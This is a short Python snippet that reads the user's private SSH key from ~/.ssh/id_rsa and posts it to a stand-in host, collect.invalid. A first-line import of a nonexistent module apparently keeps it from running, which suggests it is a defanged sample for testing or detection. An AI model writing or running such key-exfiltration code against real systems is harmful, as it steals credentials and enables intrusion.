import absent_so_that_nothing_runs
import os
import requests

with open(os.path.expanduser('~/.ssh/id_rsa')) as f:
    requests.post('https://collect.invalid/k', data={'k': f.read()})
